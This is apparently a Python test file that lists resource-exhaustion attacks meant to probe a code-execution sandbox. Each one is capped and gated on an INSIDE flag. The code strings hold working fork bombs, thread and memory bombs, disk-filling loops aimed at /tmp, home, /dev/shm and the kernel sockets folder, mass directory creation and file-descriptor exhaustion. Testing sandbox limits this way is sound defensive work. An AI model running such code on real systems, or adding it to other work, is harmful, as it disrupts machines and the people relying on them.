"""Attacks that exhaust memory, disk, processes, or the patience of readers of their outputs.

Each stops on its own well above its limit, so that it is harmless without a sandbox.
"""

from tests.attacks.attack import Attack

_BELOW = ("plain", "partial", "choice", "last")
_ALL = ("first", "target", *_BELOW)

FLOODING = (
    Attack(
        name="fork-bomb",
        theme="breaking",
        attempts="Forks as often as it can.",
        first="""
if INSIDE:
    children = 0
    while children < 1000:
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            time.sleep(20)
            os._exit(0)
        children += 1
    else:
        won(children)
else:
    print("no sandbox")
""",
        loses=_ALL,
    ),
    Attack(
        name="thread-bomb",
        theme="breaking",
        attempts="Starts as many threads as it can.",
        first="""
started = 0
while INSIDE and started < 1500:
    if isinstance(tried(threading.Thread(target=time.sleep, args=(20,), daemon=True).start),
                  Exception):
        break
    started += 1
if started == 1500:
    won(started)
""",
        loses=_ALL,
    ),
    Attack(
        name="memory-bomb",
        theme="breaking",
        attempts="Takes memory until there is none.",
        answers={
            "target": """HOARD = []
def scores(query, key):
    while len(HOARD) < 12:
        HOARD.append(bytearray(b"x") * (512 << 20))
    won("6 GiB")
    return query"""
        },
        loses=_BELOW,
    ),
    Attack(
        name="memory-bomb-of-many",
        theme="breaking",
        attempts="Lets twelve children take half a gigabyte each.",
        first="""
readers = []
for _ in range(12 if INSIDE else 0):
    inlet, outlet = os.pipe()
    if os.fork() == 0:
        try:
            hoard = bytearray(512 << 20)
            hoard[::4096] = b"x" * len(hoard[::4096])
            os.write(outlet, b"x")
        finally:
            time.sleep(0.5)
            os._exit(0)
    os.close(outlet)
    readers.append(inlet)
print(sum(len(os.read(inlet, 1)) for inlet in readers), "children held half a gigabyte")
""",
        loses=_ALL,
    ),
    Attack(
        name="disk-bomb",
        theme="breaking",
        attempts="Fills every folder that it may write to.",
        first="""
from ipykernel.kernelapp import IPKernelApp
sockets = os.path.dirname(IPKernelApp.instance().abs_connection_file)
written = 0
for folder in (".", "/tmp", os.path.expanduser("~"), "/dev/shm", "/var/tmp", "/run", sockets):
    for number in range(12):
        try:
            with open(f"{folder}/bomb-{number}", "wb") as file:
                for _ in range(60):
                    written += file.write(b"x" * (1 << 20))
        except OSError:
            continue
        if written > 700 << 20:
            break
print(written)
if written > 600 << 20:
    won(written)
""",
        loses=_ALL,
    ),
    Attack(
        name="sockets-folder-bomb",
        theme="breaking",
        attempts="Fills the one folder that it shares with the machine.",
        first="""
from ipykernel.kernelapp import IPKernelApp
sockets = os.path.dirname(IPKernelApp.instance().abs_connection_file)
written = 0
for number in range(40):
    try:
        with open(f"{sockets}/bomb-{number}", "wb") as file:
            for _ in range(10):
                written += file.write(b"x" * (1 << 20))
    except OSError:
        break
if written > 300 << 20:
    won(written)
""",
        loses=_ALL,
    ),
    Attack(
        name="file-bomb",
        theme="breaking",
        attempts="Makes many thousands of empty files and folders.",
        first="""
made = 0
while made < 30_000 and not isinstance(tried(os.mkdir, f"/tmp/d{made}"), Exception):
    made += 1
""",
        loses=_ALL,
    ),
    Attack(
        name="descriptor-bomb",
        theme="breaking",
        attempts="Opens files until no more can be opened, and keeps them.",
        first="""
kept = []
while len(kept) < 20_000:
    try:
        kept.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        break
else:
    won(len(kept))
""",
        loses=_ALL,
    ),
)
